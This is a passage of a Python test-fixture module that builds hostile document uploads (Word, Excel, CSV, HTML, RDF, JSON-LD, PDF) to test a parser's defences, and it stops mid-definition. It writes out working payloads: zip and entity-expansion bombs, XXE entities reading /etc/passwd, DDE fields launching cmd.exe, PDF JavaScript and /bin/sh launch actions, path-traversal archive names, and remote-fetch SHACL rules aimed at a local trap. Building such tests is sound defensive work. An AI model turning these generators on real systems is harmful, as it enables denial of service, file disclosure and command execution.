# ruff: noqa
# What is hostile is written as it is sent: on one line.
"""Files that were made to harm whoever reads them, by kind, and what has to become of each.

Not here: the doors that they are brought to (``test_hostile_files``).
"""

from __future__ import annotations

import io
import json
import socket
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from functools import cache
from pathlib import Path

import pdfs
import sheets
from documents import HEADING, REL, ROWS, docx, list_table, p, r, tbl, tc, tr

HOME = Path(__file__).resolve().parent.parent
LISTENER = socket.create_server(("127.0.0.1", 0))
"""Nobody may come here; connections wait until they are looked for."""
TRAP = f"http://127.0.0.1:{LISTENER.getsockname()[1]}/trap"
"""The address that hostile files name."""
READ = "read"
"""The file is harmless as it is read."""

Make = Callable[[], bytes]

DAMAGED, LARGE, LOCKED, NO_TABLE = (
    "unreadable-document",
    "document-too-large",
    "encrypted-document",
    "no-table",
)
SYNTAX, UNSUPPORTED = "syntax", "unsupported-document"


@dataclass(frozen=True, slots=True)
class Attack:
    """One hostile file."""

    name: str
    file: str
    make: Make
    ends: tuple[str, ...]
    """Codes of the errors that may answer it; ``READ`` where it may be read."""

    @property
    def is_heavy(self) -> bool:
        """Whether to answer it takes seconds, or ends at a bound of the process."""
        return (
            self.name in HEAVY
            or any(each.startswith("document-t") for each in self.ends)
            or ("document-memory" in self.ends)
        )


def docx_with(parts: Mapping[str, bytes | str], *body: str) -> bytes:
    """The small list as a Word document with parts put in or in place of others."""
    return rezipped(docx(*(body or (list_table(),))), parts)


def xlsx_list(rows: int = 5) -> bytes:
    """The small list as a workbook, its rows over and over."""

    def fill(_book: object, sheet: object) -> None:
        for column, heading in enumerate(HEADING):
            sheet.write(0, column, heading)  # type: ignore[attr-defined]
        for index in range(rows):
            row = ROWS[index % len(ROWS)]
            cells = (
                row.goal,
                index + 1,
                row.beneficiary,
                row.service,
                row.content,
                "、".join(row.departments),
            )
            for column, cell in enumerate(cells):
                sheet.write(index + 1, column, cell)  # type: ignore[attr-defined]

    return sheets.sheet(fill)


def rezipped(
    content: bytes, parts: Mapping[str, bytes | str], *, method: int = zipfile.ZIP_DEFLATED
) -> bytes:
    """A copy of an archive with parts put in or in place of others; ``{}`` in a part is what was there."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(out, "w", method) as new:
        for name in old.namelist():
            if name not in parts:
                new.writestr(name, old.read(name))
        for name, part in parts.items():
            new.writestr(name, part)
    return out.getvalue()


def changed(content: bytes, name: str, old: str, new: str) -> bytes:
    """A copy of an archive with words of one part replaced; they must be there."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        text = archive.read(name).decode()
    assert old in text, (name, old)
    return rezipped(content, {name: text.replace(old, new, 1)})


@cache
def _zeros(size: int) -> bytes:
    """*size* zero bytes as raw deflate."""
    packer = zlib.compressobj(1, zlib.DEFLATED, -15)
    block = bytes(1 << 20)
    return b"".join([packer.compress(block) for _ in range(size >> 20)]) + packer.flush()


def declared(content: bytes, name: str, packed: bytes, size: int, crc: int = 0) -> bytes:
    """A copy of an archive with one deflated part that is said to unpack to *size*."""
    base = rezipped(content, {})
    out = io.BytesIO(base)
    with zipfile.ZipFile(out, "a") as archive:
        # By hand: the library would compress it anew.
        info = zipfile.ZipInfo(name)
        info.compress_type, info.compress_size, info.file_size, info.CRC = 8, len(packed), size, crc
        info.header_offset = archive.start_dir
        assert archive.fp is not None
        archive.fp.seek(archive.start_dir)
        archive.fp.write(info.FileHeader(zip64=False) + packed)
        archive.start_dir = archive.fp.tell()
        archive.filelist.append(info)
        archive.NameToInfo[name] = info
        archive._didModify = True
    return out.getvalue()


def bomb(content: bytes, name: str, size: int, told: int | None = None) -> bytes:
    """An archive with a part of *size* zero bytes that says it has *told*."""
    return declared(content, name, _zeros(size), size if told is None else told)


def overlapping(content: bytes, count: int) -> bytes:
    """An archive in which *count* names stand for the same packed bytes."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        start = archive.start_dir
        first = archive.infolist()[0]
        entries = b""
        for index in range(count):
            name = f"word/x{index}.xml".encode()
            entries += struct.pack(
                "<4s4B4HL2L5H2L", b"PK\1\2", 20, 3, 20, 0, 0, first.compress_type, 0, 0, first.CRC,
                first.compress_size, first.file_size, len(name), 0, 0, 0, 0, 0, first.header_offset,
            ) + name  # fmt: skip
        directory = content[start : content.rindex(b"PK\5\6")] + entries
        total = len(archive.infolist()) + count
    end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, total, total, len(directory), start, 0)
    return content[:start] + directory + end


ENTITIES = (
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefghij", "bcdefghijk", strict=True))
    + "]>"
)
"""Ten to the tenth letters, when they are written out."""
EXTERNAL = (
    f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY k SYSTEM "{TRAP}"><!ENTITY a SYSTEM "file:///etc/passwd">]>'
)
OUTSIDE = f'<?xml version="1.0"?><!DOCTYPE r SYSTEM "{TRAP}">'
UTF16 = "utf-16"


def _in_part(make: Make, name: str, prolog: str, encoding: str = "utf-8") -> Make:
    """The same archive with one part that begins with *prolog* and uses its entity."""

    def made() -> bytes:
        content = make()
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            text = archive.read(name).decode("utf-8-sig")
        if text.startswith("<?xml"):
            text = text[text.index("?>") + 2 :]
        use = "&k;" if "ENTITY" in prolog else ""
        at = text.rindex("</")
        head = prolog if encoding == "utf-8" else prolog.replace('"1.0"', f'"1.0" encoding="{encoding}"')
        return rezipped(content, {name: (head + text[:at] + use + text[at:]).encode(encoding)})

    return made


_STYLED = lambda: docx(
    list_table(),
    parts={
        "styles": ("styles", ""),
        "numbering": ("numbering", ""),
        "header": ("hdr", p("页眉")),
        "footnotes": ("footnotes", ""),
    },
)
_DOCX_PARTS = (
    *("[Content_Types].xml", "_rels/.rels", "word/_rels/document.xml.rels", "word/document.xml"),
    *("word/styles0.xml", "word/numbering1.xml", "word/header2.xml", "word/footnotes3.xml"),
)
_XLSX_PARTS = (
    *("[Content_Types].xml", "_rels/.rels", "xl/workbook.xml", "xl/_rels/workbook.xml.rels"),
    *("xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/styles.xml"),
)


def _xml_attacks() -> Iterator[Attack]:
    for kind, make, parts in (("docx", _STYLED, _DOCX_PARTS), ("xlsx", xlsx_list, _XLSX_PARTS)):
        for part in parts:
            for name, prolog in (("entities", ENTITIES), ("external", EXTERNAL), ("outside", OUTSIDE)):
                yield Attack(f"{kind}-{name}-{part}", f"a.{kind}", _in_part(make, part, prolog), (DAMAGED,))
        main = parts[3] if kind == "docx" else parts[4]
        yield Attack(f"{kind}-entities-utf16", f"a.{kind}", _in_part(make, main, ENTITIES, UTF16), (DAMAGED,))
    rdf = (
        '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:d="http://purl.org/dc/terms/">'
        '<rdf:Description rdf:about="urn:a"><d:title>{}</d:title></rdf:Description></rdf:RDF>'
    )
    for name, prolog in (("entities", ENTITIES), ("external", EXTERNAL), ("outside", OUTSIDE)):
        text = prolog + rdf.format("&k;" if "ENTITY" in prolog else "")
        yield Attack(f"rdf-{name}", "a.rdf", text.encode, (SYNTAX,))
        page = prolog.replace("DOCTYPE r", "DOCTYPE html") + f"<html><body>&k;{html_list()}</body></html>"
        yield Attack(f"xhtml-{name}", "a.xhtml", page.encode, (READ, DAMAGED))
    utf16 = (ENTITIES + rdf.format("&k;")).replace('"1.0"', '"1.0" encoding="utf-16"')
    yield Attack("rdf-entities-utf16", "a.rdf", lambda: utf16.encode(UTF16), (SYNTAX, DAMAGED, NO_TABLE))


def html_list(rows: int = 5) -> str:
    """The small list as a table of a web page."""
    lines = ["<tr>" + "".join(f"<th>{each}</th>" for each in HEADING) + "</tr>"]
    lines += ["<tr>" + "".join(f"<td>{cell}</td>" for cell in cells) + "</tr>" for cells in plain_rows(rows)]
    return f"<table>{''.join(lines)}</table>"


def plain_rows(rows: int = 5) -> Iterator[tuple[str, ...]]:
    """The cells of the small list, over and over, with numbers that go on."""
    for index in range(rows):
        row = ROWS[index % len(ROWS)]
        departments = "、".join(row.departments)
        yield row.goal, str(index + 1), row.beneficiary, row.service, row.content, departments


def delimited(rows: int, separator: str = ",") -> bytes:
    """The same as CSV."""
    return "".join(separator.join(cells) + "\n" for cells in (HEADING, *plain_rows(rows))).encode()


def flat(rows: int) -> bytes:
    """The same as a text of one cell a line."""
    return "".join("\n".join(cells) + "\n" for cells in (HEADING, *plain_rows(rows))).encode()


def json_rows(rows: int) -> bytes:
    """The same as our JSON."""
    keys = ("goal", "number", "beneficiary", "service", "content", "departments")
    return json.dumps([dict(zip(keys, cells, strict=True)) for cells in plain_rows(rows)]).encode()


def turtle_rows(rows: int) -> bytes:
    """Services of one edition in Turtle."""
    lines = ["@prefix cpsv: <http://purl.org/vocab/cpsv#> . @prefix d: <http://purl.org/dc/terms/> ."]
    lines += [f'<urn:s{n}> a cpsv:PublicService ; d:isPartOf <urn:e> ; d:title "x"@zh .' for n in range(rows)]
    return "\n".join(lines).encode()


def _size_attacks() -> Iterator[Attack]:
    many = 100_000
    yield Attack(
        "docx-rows", "a.docx", lambda: docx(tbl(tr(*HEADING), "<w:tr><w:tc/></w:tr>" * many)), (LARGE,)
    )
    yield Attack("docx-full-rows", "a.docx", lambda: docx(list_table(ROWS * (many // 20))), (LARGE,))
    yield Attack("xlsx-rows", "a.xlsx", lambda: xlsx_list(many // 4), (LARGE,))
    yield Attack("csv-rows", "a.csv", lambda: delimited(many), (LARGE,))
    yield Attack("tsv-rows", "a.tsv", lambda: delimited(many, "\t"), (LARGE,))
    yield Attack("txt-rows", "a.txt", lambda: flat(many), (LARGE,))
    yield Attack("txt-tab-rows", "a.txt", lambda: delimited(many, "\t"), (LARGE,))
    yield Attack("html-rows", "a.html", lambda: html_list(many).encode(), (LARGE, DAMAGED))
    yield Attack("json-rows", "a.json", lambda: json_rows(many), (LARGE,))
    yield Attack("turtle-rows", "a.ttl", lambda: turtle_rows(many), (LARGE,))
    yield Attack(
        "pdf-rows", "a.pdf", lambda: pdfs.pdf(*[pdfs.table(10, [("a",) * 6] * 18)] * 499), (LARGE, NO_TABLE)
    )
    yield Attack("docx-columns", "a.docx", lambda: docx(tbl(tr(*HEADING), tr(*["x"] * 20_000))), (LARGE,))
    yield Attack(
        "docx-span", "a.docx", lambda: docx(tbl(tr(*HEADING), tr(tc("x", span=2_000_000_000)))), (LARGE,)
    )
    yield Attack("csv-columns", "a.csv", lambda: b"," * 1_000_000, (LARGE,))
    yield Attack("csv-line", "a.csv", lambda: delimited(5) + b"x" * 99_000_000, (LARGE,))
    yield Attack("txt-line", "a.txt", lambda: b"x" * 99_000_000, (LARGE, NO_TABLE))
    yield Attack("csv-quote", "a.csv", lambda: delimited(5) + b'"' * 5_000_001, (DAMAGED, LARGE))
    yield Attack("csv-nul", "a.csv", lambda: delimited(5) + b"\0,\0,\0\n" * 1_000, (DAMAGED, NO_TABLE))
    yield Attack("txt-blank", "a.txt", lambda: b" \n" * 20_000_000, (DAMAGED, LARGE))
    yield Attack("txt-blank-list", "a.txt", lambda: delimited(5, "\t") + b"\n" * 20_000_000, (READ, LARGE))
    yield Attack("csv-blank-list", "a.csv", lambda: delimited(5) + b"\n" * 20_000_000, (LARGE,))
    yield Attack(
        "html-colspan",
        "a.html",
        lambda: html_list().replace("<td>", '<td colspan="999999999">', 9).encode(),
        (LARGE,),
    )
    yield Attack(
        "html-rowspan",
        "a.html",
        lambda: html_list().replace("<td>", '<td rowspan="999999999">', 9).encode(),
        (READ,),
    )
    yield Attack(
        "html-spans",
        "a.html",
        lambda: (
            "<table>" + '<tr><td rowspan="65534" colspan="900">x</td></tr>' * 5_000 + "</table>"
        ).encode(),
        (LARGE,),
    )
    yield Attack("xlsx-far", "a.xlsx", lambda: _far("XFD1048576"), (LARGE,))
    yield Attack("xlsx-far-row", "a.xlsx", lambda: _far("A1048576"), (LARGE,))
    yield Attack("xlsx-no-cell", "a.xlsx", lambda: _far("ZZZ9999999"), (LARGE,))
    yield Attack("xlsx-merge", "a.xlsx", lambda: _merged("A1:XFD1048576"), (READ, LARGE))
    yield Attack("xlsx-merges", "a.xlsx", lambda: _merged(*["A1:XFD1048576"] * 50_000), (READ, LARGE))
    yield Attack("xlsx-merge-far", "a.xlsx", lambda: _merged("XFC1048570:XFD1048576"), (READ,))
    yield Attack(
        "docx-cell",
        "a.docx",
        lambda: docx(tbl(tr(*HEADING), tr("一", "1", "x", "x", "x" * 40_000_000, "x"))),
        (LARGE, DAMAGED),
    )
    yield Attack(
        "xlsx-cell",
        "a.xlsx",
        lambda: changed(xlsx_list(), "xl/sharedStrings.xml", "就近入园", "x" * 40_000_000),
        (LARGE, DAMAGED),
    )
    yield Attack(
        "html-cell",
        "a.html",
        lambda: html_list().replace("就近入园", "x" * 40_000_000).encode(),
        (LARGE, DAMAGED),
    )
    yield Attack(
        "json-cell",
        "a.json",
        lambda: json_rows(5).replace(b'"number"', b'"y": "%s", "number"' % (b"x" * 40_000_000), 1),
        (LARGE,),
    )
    yield Attack(
        "turtle-cell",
        "a.ttl",
        lambda: turtle_rows(5).replace(b'"x"', b'"%s"' % (b"x" * 90_000_000), 1),
        (LARGE, "document-memory"),
    )
    yield Attack(
        "docx-shared",
        "a.docx",
        lambda: docx(
            tbl(
                tr(*HEADING),
                tr(tc("目" * 99_000, merge="restart"), *"12345"),
                *[tr(tc(merge="continue"), str(n), *"2345") for n in range(2, 4_000)],
            )
        ),
        (LARGE,),
    )
    yield Attack("xlsx-shared", "a.xlsx", _shared, (LARGE,))
    yield Attack("file", "a.txt", lambda: b"x" * 100_000_001, (LARGE,))


def _far(cell: str) -> bytes:
    row = "".join(filter(str.isdigit, cell))
    added = f'<row r="{row}"><c r="{cell}" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'
    return changed(xlsx_list(), "xl/worksheets/sheet1.xml", "</sheetData>", added)


def _merged(*ranges: str) -> bytes:
    merges = "".join(f'<mergeCell ref="{each}"/>' for each in ranges)
    after = f"</sheetData><mergeCells>{merges}</mergeCells>"
    return changed(xlsx_list(), "xl/worksheets/sheet1.xml", "</sheetData>", after)


def _shared() -> bytes:
    """Thousands of cells that refer to one long text."""
    content = changed(xlsx_list(4_000), "xl/sharedStrings.xml", "就近入园", "园" * 99_000)
    return content


def _zip_attacks() -> Iterator[Attack]:
    gigabyte = 1 << 30
    for kind, make, part in (
        ("docx", lambda: docx(list_table()), "word/media/x.bin"),
        ("xlsx", xlsx_list, "xl/media/x.bin"),
    ):
        yield Attack(f"{kind}-bomb", f"a.{kind}", lambda m=make, n=part: bomb(m(), n, gigabyte), (LARGE,))
        yield Attack(
            f"{kind}-parts",
            f"a.{kind}",
            lambda m=make: rezipped(m(), {f"x{n}": b"" for n in range(6_000)}),
            (LARGE,),
        )
        yield Attack(
            f"{kind}-overlapping", f"a.{kind}", lambda m=make: overlapping(m(), 4_000), (READ, DAMAGED, LARGE)
        )
        yield Attack(
            f"{kind}-nested",
            f"a.{kind}",
            lambda m=make: rezipped(m(), {"x.zip": rezipped(m(), {"y.zip": bomb(m(), "z", gigabyte)})}),
            (READ,),
        )
        yield Attack(
            f"{kind}-paths",
            f"a.{kind}",
            lambda m=make: rezipped(
                m(), {"../../etc/passwd": b"x", "/etc/shadow": b"x", "C:\\x": b"x", "a\nb\x1b[2J": b"x"}
            ),
            (READ, DAMAGED),
        )
        yield Attack(
            f"{kind}-twice", f"a.{kind}", lambda m=make: rezipped(m(), {"x": b"1", "X": b"2"}), (DAMAGED,)
        )
        yield Attack(
            f"{kind}-bzip2",
            f"a.{kind}",
            lambda m=make: rezipped(m(), {}, method=zipfile.ZIP_BZIP2),
            (DAMAGED,),
        )
    main = "word/document.xml"
    body = docx(list_table())
    hidden = rezipped(body, {main: b""})
    yield Attack(
        "docx-lying-bomb", "a.docx", lambda: bomb(_without(hidden, main), main, gigabyte, 1_000), (DAMAGED,)
    )
    yield Attack(
        "docx-dense-main",
        "a.docx",
        lambda: changed(body, main, "<w:body>", "<w:body>" + " " * 60_000_000),
        (LARGE,),
    )
    yield Attack("docx-below-limits", "a.docx", lambda: docx(list_table(), p("x" * 90) * 15_000), (READ,))
    yield Attack(
        "docx-tags",
        "a.docx",
        lambda: changed(body, main, "<w:body>", "<w:body>" + _noise("<w:p/>", 5_000_000)),
        (READ, LARGE, "document-memory"),
    )
    yield Attack(
        "docx-attributes",
        "a.docx",
        lambda: changed(
            body, main, "<w:body>", "<w:body" + "".join(f' a{n}="{n}"' for n in range(400_000)) + ">"
        ),
        (READ, DAMAGED),
    )
    yield Attack("docx-locked", "a.docx", _locked, (LOCKED,))
    yield Attack("xlsx-locked", "a.xlsx", _locked, (LOCKED,))
    yield Attack("docx-flagged", "a.docx", lambda: _flagged(body), (LOCKED,))


def _noise(element: str, size: int) -> str:
    """Elements with something between them that does not pack well."""
    state, out = 1, []
    for _ in range(size // len(element)):
        state = state * 1103515245 + 12345 & 0x7FFFFFFF
        out.append(element + f"<!--{state}-->" * (state % 7 == 0))
    return "".join(out)


def _without(content: bytes, name: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for each in old.namelist():
            if each != name:
                new.writestr(each, old.read(each))
    return out.getvalue()


def _locked() -> bytes:
    """The shell of a document with a password: a directory entry in a compound file."""
    name = "EncryptedPackage".encode("utf-16-le") + b"\0\0"
    entry = name.ljust(64, b"\0") + len(name).to_bytes(2, "little")
    return (bytes.fromhex("d0cf11e0a1b11ae1").ljust(512, b"\0") + entry).ljust(2_048, b"\0")


def _flagged(content: bytes) -> bytes:
    """The archive with the bit of encryption set on every entry."""
    data = bytearray(content)
    at = data.find(b"PK\1\2")
    while at >= 0:
        data[at + 8] |= 1
        at = data.find(b"PK\1\2", at + 4)
    return bytes(data)


def _related(kind: str, mode: str = ' TargetMode="External"', target: str = TRAP) -> bytes:
    """A Word document that points outside."""
    link = f'<Relationship Id="x" Type="{REL}/{kind}" Target="{target}"{mode}/></Relationships>'
    return changed(docx(list_table()), "word/_rels/document.xml.rels", "</Relationships>", link)


def _active_attacks() -> Iterator[Attack]:
    for kind in (
        "attachedTemplate",
        "image",
        "aFChunk",
        "frame",
        "subDocument",
        "oleObject",
        "header",
        "styles",
        "hyperlink",
    ):
        yield Attack(f"docx-external-{kind}", "a.docx", lambda k=kind: _related(k), (READ,))
    for target in ("../../../../../../etc/passwd", "/etc/passwd", "file:///etc/passwd", "\\\\127.0.0.1\\x"):
        name = "styles-" + "".join(filter(str.isalnum, target))
        yield Attack(f"docx-{name}", "a.docx", lambda t=target: _related("styles", "", t), (READ,))
    field = (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe '
        f'"/k calc" INCLUDETEXT "file:///etc/passwd" INCLUDEPICTURE "{TRAP}"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        + r("结果")
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )
    yield Attack("docx-dde", "a.docx", lambda: docx(p(field), list_table()), (READ,))
    yield Attack(
        "docx-altchunk",
        "a.docx",
        lambda: docx('<w:altChunk r:id="x"/>', list_table(), more={"word/x.html": b"<script>1</script>"}),
        (READ,),
    )
    yield Attack(
        "docx-ole",
        "a.docx",
        lambda: docx(list_table(), more={"word/embeddings/oleObject1.bin": _locked()}),
        (READ,),
    )
    yield Attack(
        "docm",
        "a.docm",
        lambda: docx(
            list_table(),
            content_type="application/vnd.ms-word.document.macroEnabled.main+xml",
            more={"word/vbaProject.bin": _locked()},
        ),
        (READ,),
    )
    yield Attack(
        "xlsm",
        "a.xlsm",
        lambda: sheets.with_parts(xlsx_list(), lambda _, text: text, **{"xl/vbaProject.bin": "x"}),
        (READ,),
    )
    yield Attack(
        "xlsx-dde",
        "a.xlsx",
        lambda: changed(xlsx_list(), "xl/worksheets/sheet1.xml", "<v>", "<f>cmd|' /C calc'!A0</f><v>"),
        (READ,),
    )
    yield Attack(
        "xlsx-surrogate",
        "a.xlsx",
        lambda: changed(xlsx_list(), "xl/sharedStrings.xml", "就近入园", "就_xD800_近_x0000_入_x001B_园"),
        (READ, DAMAGED),
    )
    yield Attack(
        "html-active",
        "a.html",
        lambda: (
            f'<html><head><base href="{TRAP}"><link rel="import" href="{TRAP}"><meta http-equiv="refresh" content="0;url={TRAP}"></head><body><img src="{TRAP}"><iframe src="{TRAP}"></iframe><object data="{TRAP}">x</object><script src="{TRAP}">x</script>{html_list()}</body></html>'
        ).encode(),
        (READ,),
    )
    yield Attack(
        "csv-formulas",
        "a.csv",
        lambda: delimited(5) + '目标,6,对象,"=HYPERLINK(""http://x"")",内容,部门\n'.encode(),
        (READ,),
    )


def _deep_attacks() -> Iterator[Attack]:
    deep = 100_000
    yield Attack("html-deep", "a.html", lambda: (html_list() + "<div>" * deep).encode(), (READ, DAMAGED))
    yield Attack(
        "html-deep-tables", "a.html", lambda: ("<table><tr><td>" * deep).encode(), (DAMAGED, NO_TABLE)
    )
    yield Attack(
        "html-deep-inline",
        "a.html",
        lambda: html_list().replace("就近入园", "<b>" * deep + "x").encode(),
        (READ, DAMAGED),
    )
    yield Attack(
        "html-attributes",
        "a.html",
        lambda: (html_list() + "<p " + " ".join(f"a{n}=1" for n in range(deep)) + ">").encode(),
        (READ, DAMAGED, "document-timeout"),
    )
    yield Attack(
        "jsonld-deep", "a.jsonld", lambda: b'{"urn:a":' * deep + b"1" + b"}" * deep, (SYNTAX, DAMAGED)
    )
    yield Attack(
        "jsonld-deep-lists",
        "a.jsonld",
        lambda: b'{"urn:a":' + b"[" * deep + b"]" * deep + b"}",
        (SYNTAX, DAMAGED),
    )
    yield Attack("json-deep", "a.json", lambda: b"[" * deep + b"]" * deep, (SYNTAX, DAMAGED))
    yield Attack(
        "turtle-deep",
        "a.ttl",
        lambda: b"<urn:a> <urn:b> " + b"[ <urn:b> " * deep + b"1" + b"]" * deep + b" .",
        (SYNTAX, DAMAGED),
    )
    yield Attack(
        "turtle-deep-lists",
        "a.ttl",
        lambda: b"<urn:a> <urn:b> " + b"(" * deep + b")" * deep + b" .",
        (SYNTAX, DAMAGED),
    )
    yield Attack("turtle-open", "a.ttl", lambda: b"<urn:a> <urn:b> " + b"[ <urn:b> (" * deep, (SYNTAX,))
    yield Attack(
        "rdf-deep",
        "a.rdf",
        lambda: (
            RDF_XML
            + '<rdf:Description><d:x rdf:parseType="Resource">'
            + '<d:x rdf:parseType="Resource">' * deep
        ).encode(),
        (SYNTAX,),
    )
    yield Attack(
        "docx-deep",
        "a.docx",
        lambda: docx("<w:sdt><w:sdtContent>" * 50_000 + "</w:sdtContent></w:sdt>" * 50_000, list_table()),
        (DAMAGED,),
    )
    yield Attack(
        "docx-deep-below",
        "a.docx",
        lambda: docx("<w:ins>" * 250 + p("x") + "</w:ins>" * 250, list_table()),
        (READ,),
    )
    tables = "<w:tbl><w:tr><w:tc>"
    yield Attack(
        "docx-deep-tables",
        "a.docx",
        lambda: docx(tables * 80 + p("x") + "</w:tc></w:tr></w:tbl>" * 80, list_table()),
        (READ, DAMAGED),
    )
    box = "<w:p><w:r><w:pict><v:shape><v:textbox><w:txbxContent>"
    yield Attack(
        "docx-deep-boxes",
        "a.docx",
        lambda: docx(
            box * 40 + p("x") + "</w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>" * 40,
            list_table(),
        ),
        (READ, DAMAGED),
    )
    yield Attack("csv-deep-json", "a.csv", lambda: b"[" * deep, (NO_TABLE, DAMAGED))


RDF_XML = (
    '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:d="http://purl.org/dc/terms/">'
)
TURTLE = (HOME / "data/checklist.ttl").read_text("utf-8")


def _rdf_attacks() -> Iterator[Attack]:
    yield Attack(
        "jsonld-context",
        "a.jsonld",
        lambda: f'{{"@context": "{TRAP}", "@id": "urn:a", "urn:b": 1}}'.encode(),
        (SYNTAX,),
    )
    yield Attack(
        "jsonld-context-file",
        "a.jsonld",
        lambda: b'{"@context": "file:///etc/passwd", "@id": "urn:a", "urn:b": 1}',
        (SYNTAX,),
    )
    yield Attack(
        "jsonld-import",
        "a.jsonld",
        lambda: (
            f'{{"@context": {{"@version": 1.1, "@import": "{TRAP}"}}, "@id": "urn:a", "urn:b": 1}}'.encode()
        ),
        (SYNTAX,),
    )
    yield Attack(
        "jsonld-contexts",
        "a.jsonld",
        lambda: (
            f'{{"@context": [{{"x": {{"@id": "urn:x", "@context": "{TRAP}"}}}}], "@id": "urn:a", "x": {{"urn:b": 1}}}}'.encode()
        ),
        (SYNTAX,),
    )
    yield Attack(
        "imports",
        "a.ttl",
        lambda: (
            TURTLE
            + f"\n<urn:o> a <http://www.w3.org/2002/07/owl#Ontology> ; <http://www.w3.org/2002/07/owl#imports> <{TRAP}> , <file:///etc/passwd> ."
        ).encode(),
        (READ,),
    )
    yield Attack("shapes", "a.ttl", lambda: (TURTLE + SHAPES).encode(), (READ,))
    yield Attack(
        "service",
        "a.ttl",
        lambda: (
            TURTLE + f'\n<urn:q> <urn:text> "SELECT * {{ SERVICE <{TRAP}> {{ ?s ?p ?o }} }}" .'
        ).encode(),
        (READ,),
    )
    yield Attack(
        "decimal",
        "a.ttl",
        lambda: (
            TURTLE
            + '\n<urn:q> <urn:n> "1E+999999999"^^<http://www.w3.org/2001/XMLSchema#decimal> , 1e999999999 , "9999999999999999999999-01-01"^^<http://www.w3.org/2001/XMLSchema#date> .'
        ).encode(),
        (READ,),
    )
    yield Attack(
        "decimal-number",
        "a.ttl",
        lambda: TURTLE.replace(
            "care:rowNumber 3 ",
            'care:rowNumber "1E+999999999"^^<http://www.w3.org/2001/XMLSchema#decimal> ',
            1,
        ).encode(),
        (READ,),
    )
    yield Attack(
        "long-number",
        "a.ttl",
        lambda: TURTLE.replace("care:rowNumber 3 ", f"care:rowNumber {'9' * 1_000_000} ", 1).encode(),
        (READ, LARGE),
    )
    yield Attack(
        "named-graphs",
        "a.trig",
        lambda: (
            _quads()
            + "\n<urn:g> { <urn:s> a <http://purl.org/vocab/cpsv#PublicService> ; <http://purl.org/dc/terms/isPartOf> <urn:other> . }"
        ).encode(),
        (DAMAGED,),
    )
    yield Attack("clique", "a.ttl", lambda: (TURTLE + blank_clique(24)).encode(), (READ, DAMAGED))
    yield Attack("remote-base", "a.ttl", lambda: f"@base <{TRAP}> . <a> <b> <c> .".encode(), (DAMAGED,))


def blank_clique(size: int) -> str:
    """Blank nodes that all point at each other: the worst case of every canonical naming."""
    nodes = range(size)
    return "\n" + "\n".join(f"_:c{a} <urn:p> _:c{b} ." for a in nodes for b in nodes if a != b)


def _quads() -> str:
    head = [line for line in TURTLE.splitlines() if line.startswith("@")]
    rest = [line for line in TURTLE.splitlines() if not line.startswith("@")]
    return "\n".join((*head, "<urn:first> {", *rest, "}"))


SHAPES = f"""
@prefix sh: <http://www.w3.org/ns/shacl#> .
<urn:shape> a sh:NodeShape ; sh:targetClass <http://purl.org/vocab/cpsv#PublicService> ;
  sh:sparql [ sh:select "SELECT $this WHERE {{ SERVICE <{TRAP}> {{ ?s ?p ?o }} }}" ] ;
  sh:js [ sh:jsLibrary [ sh:jsLibraryURL <{TRAP}> ] ; sh:jsFunctionName "x" ] ;
  sh:rule [ a sh:SPARQLRule ; sh:construct "CONSTRUCT {{ $this <urn:x> 1 }} WHERE {{ SERVICE <{TRAP}> {{ ?s ?p ?o }} }}" ] ;
  sh:property [ sh:path <http://purl.org/dc/terms/title> ; sh:pattern "^(([^x])+.)+[x]$" ; sh:deactivated false ] ;
  sh:target [ a sh:SPARQLTarget ; sh:select "SELECT ?this WHERE {{ SERVICE <{TRAP}> {{ ?this ?p ?o }} }}" ] .
<https://w3id.org/care-checklist/shapes#ServiceShape> sh:deactivated true .
"""
"""Rules that an upload would like to be checked by: they fetch, they run, they hang, they switch ours off."""


def _pdf_attacks() -> Iterator[Attack]:
    page = pdfs.table(10, [HEADING, *plain_rows()], wide=85, left=10)
    whole = pdfs.pdf(page)
    yield Attack(
        "pdf-javascript",
        "a.pdf",
        lambda: whole.replace(
            b"/Type/Catalog",
            b"/Type/Catalog/OpenAction<</S/JavaScript/JS(app.launchURL\\(1\\))>>/AA<</WC<</S/Launch/F(/bin/sh)>>>>",
        ),
        (READ,),
    )
    yield Attack(
        "pdf-uri",
        "a.pdf",
        lambda: whole.replace(
            b"/Type/Page/",
            f"/Type/Page/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI({TRAP})>>>><</Subtype/FileAttachment/Rect[0 0 9 9]/FS(/etc/passwd)>>]/".encode(),
        ),
        (READ, DAMAGED),
    )
    yield Attack(
        "pdf-loop-pages",
        "a.pdf",
        lambda: whole.replace(b"/Kids[5 0 R]", b"/Kids[2 0 R 5 0 R 2 0 R]"),
        (READ, DAMAGED),
    )
    yield Attack(
        "pdf-loop-xref",
        "a.pdf",
        lambda: whole.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %d" % whole.rindex(b"xref\n0")),
        (READ, DAMAGED),
    )
    yield Attack(
        "pdf-loop-contents",
        "a.pdf",
        lambda: whole.replace(b"/Contents 6 0 R", b"/Contents[6 0 R " + b"6 0 R " * 3_000 + b"]"),
        (READ, DAMAGED, LARGE, "document-timeout"),
    )
    yield Attack(
        "pdf-loop-length",
        "a.pdf",
